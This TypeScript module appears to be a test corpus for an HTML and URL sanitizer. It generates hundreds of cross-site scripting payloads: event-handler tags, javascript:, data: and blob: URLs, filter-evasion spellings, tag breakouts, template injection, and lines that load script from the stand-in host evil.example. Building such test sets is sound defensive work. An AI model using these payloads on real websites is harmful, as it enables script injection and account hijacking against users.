/** What a payload would run: it opens a dialog and leaves a mark, `window.__xss`. */
export const CODE = 'alert(__xss=1)';

/** Elements that run something by themselves, each with the event that does it. */
const ELEMENTS: readonly string[] = [
  `<img src=x onerror=${CODE}>`,
  `<svg onload=${CODE}>`,
  `<body onload=${CODE}>`,
  `<video src=x onerror=${CODE}>`,
  `<audio src=x onerror=${CODE}>`,
  `<input autofocus onfocus=${CODE}>`,
  `<details open ontoggle=${CODE}>`,
  `<iframe src=x onload=${CODE}>`,
  `<object data=x onerror=${CODE}>`,
  `<p tabindex=1 autofocus onfocus=${CODE}>`,
  `<a href=x onmouseover=${CODE}>`,
  `<style onload=${CODE}></style>`,
];
/** How a tag can be spelt, and what it can be put behind so that it stands outside of where it was put. */
const SPELLINGS: readonly ((html: string) => string)[] = [
  (html) => html,
  (html) => html.replace(/<\w+|on\w+/g, (word) => word.toUpperCase()),
  (html) => html.replaceAll(' ', '/'),
  (html) => html.replaceAll(' ', '\t\n'),
  (html) => html.replace('>', ''),
  (html) => html.replace('<', '<<'),
  (html) => `">${html}`,
  (html) => `'>${html}`,
  (html) => `" ${html.replace(/>.*$/, '').replace('<', 'data-')} x="`,
  (html) => `-->${html}`,
  (html) => `]]>${html}`,
  (html) => `</textarea></title></script>${html}`,
  (html) => html.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (html) => html.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (html) => encodeURIComponent(html),
];

const URLS: readonly string[] = [
  `javascript:${CODE}`,
  `vbscript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CODE}"/>`,
  `data:application/xhtml+xml;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://evil.example/${CODE}`,
];
/** How a scheme can be spelt so that a browser still reads it, or a second reader does. */
const SCHEME_SPELLINGS: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => url.replace(/^\w+/, (scheme) => scheme.toUpperCase()),
  (url) => url.replace(/^(\w)(\w)/, (_all, first: string, next: string) => first + next.toUpperCase()),
  (url) => url.replace(/^(\w\w)/, '$1\t'),
  (url) => url.replace(/^(\w\w)/, '$1\r\n'),
  (url) => url.replace(':', '\n:'),
  (url) => `  ${url}`,
  (url) => `\u0001\u001f${url}`,
  (url) => url.replace(':', '&colon;'),
  (url) => `&#${url.charCodeAt(0)};${url.slice(1)}`,
  (url) => url.replace(':', '%3A'),
  (url) => `view-source:${url}`,
];

/** Ways that need no event, or that only a second parser would open. */
const OTHERS: readonly string[] = [
  `<script>${CODE}</script>`,
  '<script src=//evil.example/x.js></script>',
  '<base href=//evil.example/>',
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  `<form action=javascript:${CODE}><button>x</button></form>`,
  `<button formaction=javascript:${CODE}>x</button>`,
  `<iframe srcdoc="<script>${CODE}</script>"></iframe>`,
  `<embed src=javascript:${CODE}>`,
  `<svg><a xlink:href=javascript:${CODE}><text>x</text></a></svg>`,
  `<svg><animate onbegin=${CODE} attributeName=x></svg>`,
  `<math><mtext><style><img src=x onerror=${CODE}></style></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `{{constructor.constructor('${CODE}')()}}`,
  `\${${CODE}}`,
];
const OTHER_SPELLINGS = [SPELLINGS[0]!, SPELLINGS[6]!, SPELLINGS[11]!];

const table = (words: readonly string[], spellings: readonly ((word: string) => string)[]): string[] =>
  words.flatMap((word) => spellings.map((spell) => spell(word)));

/** Addresses that must neither become a link, nor a picture, nor a frame. */
export const URL_PAYLOADS: readonly string[] = table(URLS, SCHEME_SPELLINGS);

/** goals.md S7: 12 elements × 15 spellings, 6 schemes × 12, 16 other ways × 3. */
export const PAYLOADS: readonly string[] = [
  ...table(ELEMENTS, SPELLINGS),
  ...URL_PAYLOADS,
  ...table(OTHERS, OTHER_SPELLINGS),
];
